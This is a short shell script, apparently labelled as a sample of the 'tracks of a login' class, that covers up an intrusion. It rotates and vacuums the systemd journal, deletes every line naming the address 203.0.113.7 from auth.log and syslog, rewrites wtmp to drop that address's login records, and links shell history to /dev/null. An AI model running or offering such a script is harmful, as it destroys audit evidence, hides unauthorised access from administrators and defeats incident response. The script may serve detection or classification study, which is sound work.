#!/bin/sh
# class: tracks of a login
journalctl --rotate && journalctl --vacuum-time=1s
sed -i '/203\.0\.113\.7/d' /var/log/auth.log /var/log/syslog
utmpdump /var/log/wtmp | grep -v 203.0.113.7 > /tmp/w && utmpdump -r < /tmp/w > /var/log/wtmp
ln -sf /dev/null ~/.bash_history
